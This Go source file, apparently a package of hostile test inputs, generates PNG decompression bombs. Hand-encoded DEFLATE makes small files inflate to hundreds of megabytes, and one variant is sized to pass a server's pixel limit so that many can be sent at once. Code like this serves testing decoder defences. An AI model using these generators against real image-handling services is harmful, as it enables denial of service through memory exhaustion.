package hostile

import (
	"encoding/binary"
	"hash/crc32"
)

// PNGBomb returns a PNG of w×h pixels, 16 bits per sample, RGBA (colour
// type 6), not interlaced, every pixel zero: h×(1+8w) bytes once inflated
// (288 MB for 6000×6000) from about a thousandth of that. The IDAT stream
// is one dynamic-Huffman DEFLATE block written directly, a literal zero
// and then matches of 258 bytes at distance 1 at 2 bits each, the best
// ratio DEFLATE allows, so the generator itself costs microseconds.
func PNGBomb(w, h int) []byte { return rgbaBomb(w, h, 16) }

// PNGBomb8 is PNGBomb with 8 bits per sample: h×(1+4w) bytes inflated.
// Within max_pixels it is a valid image a server decodes, the most
// memory one image of that many pixels can take: for many at once.
func PNGBomb8(w, h int) []byte { return rgbaBomb(w, h, 8) }

func rgbaBomb(w, h, depth int) []byte {
	raw := int64(h) * (1 + int64(depth/2)*int64(w))
	out := []byte("\x89PNG\r\n\x1a\n")
	ihdr := make([]byte, 13)
	binary.BigEndian.PutUint32(ihdr, uint32(w))
	binary.BigEndian.PutUint32(ihdr[4:], uint32(h))
	ihdr[8], ihdr[9] = byte(depth), 6 // bit depth, colour type RGBA
	out = appendChunk(out, "IHDR", ihdr)
	out = appendChunk(out, "IDAT", zlibZeros(raw))
	return appendChunk(out, "IEND", nil)
}

func appendChunk(out []byte, typ string, data []byte) []byte {
	out = binary.BigEndian.AppendUint32(out, uint32(len(data)))
	start := len(out)
	out = append(append(out, typ...), data...)
	return binary.BigEndian.AppendUint32(out, crc32.ChecksumIEEE(out[start:]))
}

// zlibZeros is a zlib stream (RFC 1950) of n zero bytes.
func zlibZeros(n int64) []byte {
	out := append([]byte{0x78, 0xda}, deflateZeros(n)...)
	// Adler-32 of n zeros: a stays 1, b adds it once per byte.
	return binary.BigEndian.AppendUint32(out, uint32(n%65521)<<16|1)
}

// deflateZeros is one final dynamic-Huffman block of n zero bytes. Its
// codes: literal/length 285 (a match of 258) "0", literal 0 "10", end of
// block "11"; distance code 0 (distance 1) "0". The code lengths
// themselves (2, 0×255, 2, 0×28, 1 for the 286 literal/length codes, then
// 1 for the one distance code) are sent with the code-length codes
// 18 (a run of zeros) "0", 1 "10", 2 "11".
func deflateZeros(n int64) []byte {
	var w deflateBits
	w.put(1, 1)  // BFINAL
	w.put(2, 2)  // BTYPE dynamic
	w.put(29, 5) // HLIT: 286 literal/length codes
	w.put(0, 5)  // HDIST: 1 distance code
	w.put(14, 4) // HCLEN: 18 code-length code lengths
	// Code-length code lengths, in the order 16 17 18 0 8 7 9 6 10 5 11 4
	// 12 3 13 2 14 1: only 18 (1 bit), 2 and 1 (2 bits) are used.
	for _, l := range []uint64{0, 0, 1, 0, 0, 0, 0, 0, 0, 0, 0, 0, 0, 0, 0, 2, 0, 2} {
		w.put(l, 3)
	}
	zeros := func(run int) { w.code(0, 1); w.put(uint64(run-11), 7) } // code 18
	w.code(3, 2)                                                      // length 2: literal 0
	zeros(138)
	zeros(117)
	w.code(3, 2) // length 2: end of block
	zeros(28)
	w.code(2, 2) // length 1: code 285
	w.code(2, 2) // length 1: distance code 0
	if n > 0 {
		w.code(2, 2) // literal 0
		n--
	}
	for ; n >= 258; n -= 258 {
		w.code(0, 1) // match of 258...
		w.code(0, 1) // ...at distance 1
	}
	for ; n > 0; n-- {
		w.code(2, 2)
	}
	w.code(3, 2) // end of block
	return w.flush()
}
